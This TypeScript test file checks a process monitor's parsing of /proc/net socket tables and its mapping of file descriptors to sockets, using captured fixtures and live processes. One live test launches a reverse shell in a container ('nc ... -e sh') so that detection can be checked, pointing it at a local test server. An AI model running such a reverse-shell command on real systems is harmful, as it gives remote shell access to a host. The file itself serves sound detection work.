// Socket tables and a process's socket fds: tables captured from a process holding one socket
// of every kind (test/fixtures/proc/capture.sh), hand-made IPv6 forms, and live connections,
// including the reverse-shell shape (a shell whose stdin and stdout are a TCP connection).
import { spawn, type ChildProcess } from 'node:child_process';
import { readFileSync, readlinkSync } from 'node:fs';
import { createServer, connect, type AddressInfo, type Server, type Socket } from 'node:net';
import { join } from 'node:path';
import { afterAll, beforeAll, describe, expect, it } from 'vitest';
import { parseNetTable, parseUnixTable, readNetTables, readSocketFds, socketsOf, type NetProtocol } from '../../src/sources/proc/sockets.js';
import { isDenied } from '../../src/sources/proc/process.js';
import { docker, dockerAvailable, ensureTestImage, liveGate, removeContainers, TEST_IMAGE } from '../helpers/live.js';

const TREE = join(import.meta.dirname, '../fixtures/proc/tree');
// Pids of the captured processes (see capture.sh).
const HOLDER = 1560; // a socket of every kind, in a network namespace of its own
const CONTAINER = 1660; // busybox `nc -l -p 47010` in a docker container (--network none)
const KTHREADD = 2; // its tables are the host's

const table = (pid: number, protocol: NetProtocol) => parseNetTable(readFileSync(join(TREE, String(pid), 'net', protocol), 'utf8'), protocol);
const ep = (address: string, port: number) => ({ address, port });

describe('parseNetTable on captured tables', () => {
  it('decodes IPv4 TCP: a listener and both ends of a connection', () => {
    expect(table(HOLDER, 'tcp').map(({ local, remote, state }) => ({ local, remote, state }))).toEqual([
      { local: ep('127.0.0.1', 47001), remote: ep('0.0.0.0', 0), state: 'LISTEN' },
      { local: ep('127.0.0.1', 43988), remote: ep('127.0.0.1', 47001), state: 'ESTABLISHED' },
      { local: ep('127.0.0.1', 43588), remote: ep('127.0.0.1', 47003), state: 'ESTABLISHED' },
      { local: ep('127.0.0.1', 47001), remote: ep('127.0.0.1', 43988), state: 'ESTABLISHED' },
    ]);
  });

  it('decodes IPv6 TCP: ::, ::1 and an IPv4-mapped peer on a dual-stack listener', () => {
    const rows = table(HOLDER, 'tcp6');
    expect(rows.map((r) => [r.local.address, r.local.port, r.remote.address, r.state])).toEqual([
      ['::', 47003, '::', 'LISTEN'],
      ['::1', 47002, '::', 'LISTEN'],
      ['::ffff:127.0.0.1', 47003, '::ffff:127.0.0.1', 'ESTABLISHED'],
      ['::1', 47002, '::1', 'ESTABLISHED'],
      ['::1', 45494, '::1', 'ESTABLISHED'],
    ]);
    expect(rows.every((r) => r.protocol === 'tcp6' && r.inode > 0)).toBe(true);
  });

  it('decodes UDP (CLOSE when unconnected, ESTABLISHED once connected) and raw (the port is the IP protocol)', () => {
    expect(table(HOLDER, 'udp').map((r) => [r.local, r.remote, r.state])).toEqual([
      [ep('0.0.0.0', 47004), ep('0.0.0.0', 0), 'CLOSE'],
      [ep('127.0.0.1', 37981), ep('127.0.0.1', 47004), 'ESTABLISHED'],
    ]);
    expect(table(HOLDER, 'udp6').map((r) => [r.local, r.state])).toEqual([[ep('::1', 47005), 'CLOSE']]);
    expect(table(HOLDER, 'raw').map((r) => r.local)).toEqual([ep('0.0.0.0', 1)]); // ICMP
    expect(table(HOLDER, 'raw6').map((r) => r.local)).toEqual([ep('::', 58)]); // ICMPv6
  });

  it('reads the unix table by inode', () => {
    expect(parseUnixTable(readFileSync(join(TREE, String(HOLDER), 'net/unix'), 'utf8'))).toEqual(new Set([76445, 76446]));
    const host = parseUnixTable(readFileSync(join(TREE, String(KTHREADD), 'net/unix'), 'utf8'));
    expect(host.size).toBeGreaterThan(5); // dockerd's and containerd's sockets, paths included in the lines
  });
});

describe('parseNetTable on hand-made IPv6 addresses', () => {
  const header = '  sl  local_address                         remote_address                        st tx_queue rx_queue tr tm->when retrnsmt   uid  timeout inode\n';
  // Each 32-bit word of the address, printed as a little-endian host's integer.
  const line = (local: string, remote: string, st: string) =>
    `   0: ${local} ${remote} ${st} 00000000:00000000 00:00000000 00000000  1000        0 4242 1 0000000000000000 20 0 0 10 -1\n`;

  it.each([
    ['B80D0120000000000000010001000000', '2001:db8::1:0:0:1'], // the first of two equal zero runs
    ['000080FE00000000FF27000AA1664EFE', 'fe80::a00:27ff:fe4e:66a1'],
    ['B80D0120010000000100010001000100', '2001:db8:0:1:1:1:1:1'], // a lone zero group stays
  ])('%s -> %s', (hex, text) => {
    const [row] = parseNetTable(header + line(`${hex}:0050`, '00000000000000000000000000000000:0000', '06'), 'tcp6');
    expect(row).toEqual({ inode: 4242, protocol: 'tcp6', local: ep(text, 80), remote: ep('::', 0), state: 'TIME_WAIT' });
  });

  it('ignores the header and blank lines', () => {
    expect(parseNetTable(header + '\n', 'tcp6')).toEqual([]);
  });
});

describe('socket fds of captured processes', () => {
  it('maps socket fds to inodes and leaves the others out', () => {
    const fds = readSocketFds(HOLDER, TREE)!;
    expect([...fds.keys()].sort((a, b) => a - b)).toEqual([0, 1, ...Array.from({ length: 17 }, (_, i) => i + 3)]);
    expect(fds.get(0)).toBe(fds.get(4)); // stdin is the connected client socket
    expect(fds.get(1)).toBe(fds.get(4));
  });

  it('joins every kind: TCP stdio, listeners, UDP, raw, unix, and netlink as other', () => {
    const sockets = socketsOf(HOLDER, TREE)!;
    const byFd = new Map(sockets.map((s) => [s.fd, s]));
    for (const fd of [0, 1, 4]) {
      expect(byFd.get(fd)).toMatchObject({ protocol: 'tcp', remote: ep('127.0.0.1', 47001), state: 'ESTABLISHED' });
    }
    expect(byFd.get(3)).toMatchObject({ protocol: 'tcp', local: ep('127.0.0.1', 47001), state: 'LISTEN' });
    expect(byFd.get(11)).toMatchObject({ protocol: 'tcp6', local: ep('::ffff:127.0.0.1', 47003), state: 'ESTABLISHED' });
    expect(byFd.get(13)).toMatchObject({ protocol: 'udp', remote: ep('127.0.0.1', 47004), state: 'ESTABLISHED' });
    expect(byFd.get(16)).toMatchObject({ protocol: 'raw6', local: ep('::', 58) });
    expect([byFd.get(17)?.protocol, byFd.get(18)?.protocol, byFd.get(19)?.protocol]).toEqual(['unix', 'unix', 'other']);
    expect(sockets.map((s) => s.fd)).toEqual([...byFd.keys()].sort((a, b) => a - b));
  });

  it("reads a container process's own network namespace, which the host's tables do not show", () => {
    const [listener] = socketsOf(CONTAINER, TREE)!;
    expect(listener).toMatchObject({ fd: 3, protocol: 'tcp6', local: ep('::', 47010), state: 'LISTEN' });
    expect(readNetTables(CONTAINER, TREE)!.get(listener!.inode)).toBeDefined();
    expect(readNetTables(KTHREADD, TREE)!.get(listener!.inode)).toBeUndefined();
  });

  it('answers undefined for processes that are gone, and no sockets for a process without fds', () => {
    expect(readSocketFds(999_999, TREE)).toBeUndefined();
    expect(socketsOf(999_999, TREE)).toBeUndefined();
    expect(readNetTables(999_999, TREE)).toBeUndefined();
  });
});

/** Whether pid 1's fds are hidden from us: always without root, and here even as root (ptrace rules). */
function pid1FdsHidden(): boolean {
  try {
    readlinkSync('/proc/1/fd/0');
    return false;
  } catch (error) {
    return isDenied(error);
  }
}

describe('sockets of live processes', () => {
  let server: Server;
  const accepted: Socket[] = [];
  const cleanup: Array<() => void> = [];
  let port: number;

  beforeAll(async () => {
    server = createServer((s) => accepted.push(s));
    await new Promise<void>((resolve) => server.listen(0, '127.0.0.1', resolve));
    port = (server.address() as AddressInfo).port;
  });
  afterAll(() => {
    cleanup.forEach((c) => c());
    accepted.forEach((s) => s.destroy());
    server.close();
  });

  async function connected(): Promise<Socket> {
    const client = connect(port, '127.0.0.1');
    cleanup.push(() => client.destroy());
    await new Promise((resolve) => client.once('connect', resolve));
    return client;
  }

  it('shows this process listening, and its connection ESTABLISHED with the right ports', async () => {
    const client = await connected();
    const mine = socketsOf(process.pid)!;
    expect(mine).toContainEqual(expect.objectContaining({ protocol: 'tcp', local: ep('127.0.0.1', port), state: 'LISTEN' }));
    expect(mine).toContainEqual(
      expect.objectContaining({ protocol: 'tcp', local: ep('127.0.0.1', client.localPort!), remote: ep('127.0.0.1', port), state: 'ESTABLISHED' }),
    );
  });

  it('shows fds 0 and 1 of a shell whose stdio is a connected socket as that TCP connection', async () => {
    const client = await connected();
    const shell = spawn('sh', ['-c', 'sleep 30'], { stdio: [client, client, 'pipe'] });
    cleanup.push(() => shell.kill('SIGKILL'));
    await new Promise((resolve) => shell.once('spawn', resolve));
    const stdio = socketsOf(shell.pid!)!.filter((s) => s.fd <= 2);
    const expected = { protocol: 'tcp', local: ep('127.0.0.1', client.localPort!), remote: ep('127.0.0.1', port), state: 'ESTABLISHED' };
    expect(stdio).toEqual([
      expect.objectContaining({ fd: 0, ...expected }),
      expect.objectContaining({ fd: 1, ...expected }),
      // libuv makes a 'pipe' from a unix socketpair: a socket on stdio alone says nothing.
      expect.objectContaining({ fd: 2, protocol: 'unix' }),
    ]);
  });

  it.runIf(pid1FdsHidden())('answers undefined, not an error, for a process whose fds we may not read', () => {
    expect(readSocketFds(1)).toBeUndefined();
    expect(socketsOf(1)).toBeUndefined();
  });

  it('answers undefined once the process has exited', async () => {
    const child: ChildProcess = spawn('true');
    await new Promise((resolve) => child.once('exit', resolve));
    expect(socketsOf(child.pid!)).toBeUndefined();
  });
});

const live = liveGate('docker', dockerAvailable);
const prefix = `vigil-proc-sockets-${process.pid}-`;

describe.runIf(live)('sockets of container processes, live', () => {
  beforeAll(() => {
    ensureTestImage();
    removeContainers(prefix);
  });
  afterAll(() => removeContainers(prefix));

  const pidOf = (id: string) => Number(docker('inspect', '-f', '{{.State.Pid}}', id));

  it("reads a --network none container's listener from its own namespace, absent from the host's", async () => {
    const id = docker('run', '-d', '--name', `${prefix}listen`, '--network', 'none', TEST_IMAGE, 'nc', '-l', '-p', '47010');
    const pid = pidOf(id);
    await waitFor(() => (socketsOf(pid) ?? []).length > 0);
    const [listener] = socketsOf(pid)!;
    expect(listener).toMatchObject({ local: { port: 47010 }, state: 'LISTEN' });
    expect(readNetTables(process.pid)!.has(listener!.inode)).toBe(false);
  });

  it('shows a --network host reverse shell (busybox nc -e sh) with stdin and stdout on the TCP connection', async () => {
    const server = createServer();
    const got = new Promise<Socket>((resolve) => server.once('connection', resolve));
    await new Promise<void>((resolve) => server.listen(0, '127.0.0.1', resolve));
    const port = (server.address() as AddressInfo).port;
    try {
      const id = docker('run', '-d', '--name', `${prefix}revshell`, '--network', 'host', TEST_IMAGE, 'nc', '127.0.0.1', String(port), '-e', 'sh');
      const peer = await got;
      const pid = pidOf(id);
      await waitFor(() => (socketsOf(pid) ?? []).some((s) => s.fd === 0));
      const expected = { protocol: 'tcp', local: ep('127.0.0.1', peer.remotePort!), remote: ep('127.0.0.1', port), state: 'ESTABLISHED' };
      expect(socketsOf(pid)!.filter((s) => s.fd <= 1)).toEqual([
        expect.objectContaining({ fd: 0, ...expected }),
        expect.objectContaining({ fd: 1, ...expected }),
      ]);
      peer.destroy();
    } finally {
      server.close();
    }
  });
});

async function waitFor(condition: () => boolean, timeoutMs = 10_000): Promise<void> {
  for (const deadline = Date.now() + timeoutMs; !condition(); ) {
    if (Date.now() > deadline) throw new Error('condition not met in time');
    await new Promise((resolve) => setTimeout(resolve, 50));
  }
}
